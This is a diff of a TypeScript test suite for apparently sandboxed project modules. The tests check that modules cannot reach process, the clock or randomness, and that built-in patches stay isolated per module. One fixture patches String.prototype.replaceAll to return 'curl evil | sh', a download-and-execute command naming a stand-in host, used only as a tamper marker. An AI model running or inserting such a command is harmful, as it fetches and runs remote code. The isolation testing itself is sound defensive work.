@@ -23,15 +23,15 @@ const summary = (diagnostics: Diagnostic[]) =>
 
 describe('what settings cannot reach', () => {
   it.each([
-    ['process.env', "process.env['HOME']", 'process is not defined'],
-    ['process.cwd()', 'process.cwd()', 'process is not defined'],
-    ["process.getBuiltinModule('fs')", "process.getBuiltinModule('fs')", 'process is not defined'],
-    ['process.exit(0) in a helper', "require('./_exit').leave()", 'process is not defined'],
+    ['process.env', "process.env['HOME']", "'process' is not defined"],
+    ['process.cwd()', 'process.cwd()', "'process' is not defined"],
     [
-      'globalThis.process',
-      'globalThis.process.env',
-      "Cannot read properties of undefined (reading 'env')",
+      "process.getBuiltinModule('fs')",
+      "process.getBuiltinModule('fs')",
+      "'process' is not defined",
     ],
+    ['process.exit(0) in a helper', "require('./_exit').leave()", "'process' is not defined"],
+    ['globalThis.process', 'globalThis.process.env', "cannot read property 'env' of undefined"],
     ['the clock', 'Date.now()', 'settings cannot use Date.now()'],
     ['the current date', 'new Date().toISOString()', 'settings cannot use the current time'],
     ['randomness', 'Math.random()', 'settings cannot use Math.random()'],
@@ -72,29 +72,23 @@ describe('what settings cannot reach', () => {
     expect(diagnostics[0]!.message).toContain(message);
   });
 
-  it('keeps patched intrinsics and globals from reaching Carbon or other modules', async () => {
+  it('keeps patched built-ins and globals within the module that made them', async () => {
     const { diagnostics, workspace } = await compile({
-      'projects/a.ts': `String.prototype.replaceAll = () => 'curl evil | sh';\nexport const a = ${project()};\n`,
-      'projects/b.ts': `(Object.prototype as any).polluted = true;\nexport const b = ${project().replace("'acme'", "'b'")};\n`,
+      'projects/a.ts': `String.prototype.replaceAll = () => 'curl evil | sh';\n(Object.prototype as any).polluted = true;\nexport const a = ${project("'x'.replaceAll('x', 'y')")};\n`,
+      'projects/b.ts': `export const b = ${project("'x'.replaceAll('x', 'y') + String(({} as any).polluted)").replace("'acme'", "'b'")};\n`,
       'projects/c.ts': `(globalThis as any).shared = 'from c';\nexport const c = ${project().replace("'acme'", "'c'")};\n`,
       'projects/d.ts': `export const d = ${project('String((globalThis as any).shared)').replace("'acme'", "'d'")};\n`,
     });
-    expect(summary(diagnostics)).toEqual([
-      'projects/a.ts:1 module-threw ',
-      'projects/b.ts:1 module-threw ',
+    expect(diagnostics).toEqual([]);
+    // Each module has its own built-ins: a's patch is a's alone, and Carbon's are untouched.
+    expect(workspace?.projects.map((p) => p.name)).toEqual([
+      'curl evil | sh',
+      'yundefined',
+      'Acme',
+      'undefined',
     ]);
-    for (const diagnostic of diagnostics)
-      expect(diagnostic.message).toMatch(/read.only|not extensible/);
     expect('x'.replaceAll('x', 'y')).toBe('y');
     expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
-    // A global set by one module is gone when the next one runs.
-    const again = await compile({
-      'projects/c.ts': `(globalThis as any).shared = 'from c';\nexport const c = ${project().replace("'acme'", "'c'")};\n`,
-      'projects/d.ts': `export const d = ${project('String((globalThis as any).shared)').replace("'acme'", "'d'")};\n`,
-    });
-    expect(again.diagnostics).toEqual([]);
-    expect(again.workspace?.projects.map((p) => p.name)).toEqual(['Acme', 'undefined']);
-    expect(workspace).toBeUndefined();
   });
 
   it('gives every project module its own instance of the helpers it imports', async () => {
